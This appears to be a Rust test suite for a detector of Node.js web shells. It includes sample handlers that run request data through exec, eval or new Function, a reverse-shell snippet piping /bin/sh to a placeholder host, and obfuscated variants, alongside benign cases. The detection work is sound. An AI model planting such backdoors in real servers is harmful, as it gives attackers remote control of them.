use crate::Language::Node;
use crate::language::flow::tests::{
    assert_found, assert_silent, base64, codes, filled, hex, judged,
};

#[test]
fn handlers_are_found() {
    assert_found(
        Node,
        &[
            "const url = require('url'); const { exec } = require('‹child›');\nrequire('http').createServer((a, b) => {\n\
             const q = url.parse(a.url, true).query; exec(q.cmd, (e, o) => b.end(o)); });",
            "const cp = require('‹child›'); const r = express.Router();\nr.post('/a', (a, b) => b.send(cp.‹execsync›(a.body.q)));",
            "module.exports = function (req, res, next) { const h = req.headers['x'];\n\
             if (h) return res.send(require('‹child›').‹execsync›(Buffer.from(h, 'base64').toString())); next(); };",
            "const { ‹execsync›: run } = require('‹child›');\napp.use(async (ctx, next) => { ctx.body = run(ctx.query.c); });",
            "import { exec } from 'node:‹child›';\nexport default function handler(req, res) { exec(req.query.c); }",
            "const { ‹execsync› } = require('‹child›');\nexports.handler = async (event) => ‹execsync›(event.body);",
            "const cp = require('‹child›');\nw.on('connection', s => s.on('message', m => cp.exec(m.toString())));",
        ],
    );
}

#[test]
fn bodies_code_and_shells_are_followed() {
    assert_found(
        Node,
        &[
            "http.createServer((req, res) => { let d = ''; req.on('data', c => { d += c; });\n\
             req.on('end', () => ‹eval›(d)); }); require('http');",
            "const cp = require('‹child›'); http.createServer((req, res) => { const p = [];\n\
             req.on('data', c => p.push(c)); req.on('end', () => cp.exec(Buffer.concat(p).toString())); });",
            "const vm = require('vm'); app.post('/r', (req, res) => res.json(vm.runInThisContext(req.body.s)));",
            "app.use((req, res, next) => { const f = new Function('a', req.body.code); f(require); });",
            "const { spawn } = require('‹child›');\nhttp.createServer((req, res) => { const s = spawn('/bin/sh'); \
             req.pipe(s.stdin); });",
            "const net = require('net'), cp = require('‹child›');\nconst s = cp.spawn('/bin/sh', []);\n\
             const c = new net.Socket(); c.connect(1, 'h', () => { c.pipe(s.stdin); });",
            "const { exec } = require('‹child›');\nclass C { run(req, res) { this.c = req.query.c; this.go(); } \
             go() { exec(this.c); } }",
            "const fs = require('fs'); app.get('/f', (req, res) => { const p = req.query.p; fs.readdirSync(p);\n\
             fs.unlinkSync(p); fs.writeFileSync(p, req.body.d); });",
        ],
    );
}

#[test]
fn hidden_names_are_uncovered() {
    assert_found(
        Node,
        &[
            "app.get('/', (req, res) => require('child_' + 'process')['ex' + 'ecSync'](req.query['c']));",
            "app.use((a, b, c) => { const k = a.headers['x']; []['filter']['const' + 'ructor']('return ' + k)(); }); require('x');",
            "app.get('/', (req, res) => { const m = String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115);\n\
             require(m).‹execsync›(req.query.c); });",
            "app.get('/', (req, res) => { const { m, f, a } = req.query; require(m)[f](a); });",
            "app.get('/', (q, s) => s.end(global.process.mainModule.constructor._load('‹child›').‹execsync›(q.query.c)));",
            "app.post('/', (req, res) => { const z = unescape('%65%76%61%6c'); global[z](req.body.x); }); require('x');",
        ],
    );
}

#[test]
fn hidden_code_is_opened() {
    let plain = filled("app.get('/', (req, res) => require('‹child›').‹execsync›(req.query.c));");
    let run = filled("‹eval›");
    let once = format!(
        "{run}(Buffer.from('{}', 'base64').toString())",
        base64(&plain)
    );
    let scripts = [
        format!("{run}(atob('{}'))", base64(&once)),
        once,
        format!(
            "new Function('require', Buffer.from('{}', 'hex').toString())(require)",
            hex(&plain)
        ),
        format!("{run}(String.fromCharCode({}))", codes(&plain, |byte| byte)),
        format!(
            "(0, {run})([{}].map(c => String.fromCharCode(c ^ 11)).join(''))",
            codes(&plain, |byte| byte ^ 11)
        ),
    ];
    for script in scripts {
        let verdict = judged(Node, &script);
        assert!(verdict.score > 90, "{script} {verdict:?}");
    }
}

#[test]
fn a_table_of_strings_is_read() {
    let words =
        ["‹child›", "‹execsync›", "createServer", "query"].map(|word| base64(&filled(word)));
    let table = format!("var _0x4a2b = ['{}'];", words.join("','"));
    let uses = "_0x4a2b;".repeat(8);
    let verdict = judged(Node, &format!("{table}{uses}require(_0x4a2b[0]).query"));
    assert!(verdict.score >= 60, "{verdict:?}");
}

#[test]
fn a_bundle_is_looked_at_around_its_words() {
    let filler = "function a(b){return b+1}\n".repeat(40_000);
    let plain = filled("app.get('/', (req, res) => require('‹child›').‹execsync›(req.query.c));\n");
    let bundle = format!("{filler};{plain};{filler}");
    let verdict = judged(Node, &bundle);
    assert!(verdict.score >= 90, "{verdict:?}");
    let at = bundle.find("require(").unwrap_or_default();
    assert!(
        verdict
            .reasons
            .iter()
            .all(|reason| reason.offset.abs_diff(at) < 100)
    );
}

#[test]
fn ordinary_scripts_are_silent() {
    assert_silent(
        Node,
        &[
            "const { execFile } = require('‹child›'); app.get('/', (req, res) => execFile('ping', ['-c', '1', req.query.h]));",
            "const { exec } = require('‹child›'); app.get('/', (req, res) => exec('git pull'));",
            "const { exec } = require('‹child›'); app.get('/', (req, res) => { if (!ALLOWED.includes(req.query.c)) return;\n\
             exec(req.query.c); });",
            "const { exec } = require('‹child›'); app.get('/', (req, res) => exec(COMMANDS[req.query.c]));",
            "const { exec } = require('‹child›'); app.get('/', (req, res) => exec('ping ' + req.query.h));",
            "const { exec } = require('‹child›'); app.get('/', (req, res) => { switch (req.query.c) { case 'up': exec('uptime'); } });",
            "const { exec } = require('‹child›'); exec(process.argv[2]);",
            "const { exec } = require('‹child›'); app.get('/', (req, res) => exec('kill ' + parseInt(req.query.p)));",
            "‹eval›('1 + 1'); require('x'); $.get('/x', function (data) { ‹eval›(data); });",
            "module.exports = function (req, res) { res.render(req.query.view); };",
            "const fs = require('fs'); app.post('/u', (req, res) => fs.writeFile('/srv/up/' + req.query.n, req.body.d));",
            "process.on('message', m => require(m.path)); const x = req.query;",
        ],
    );
}
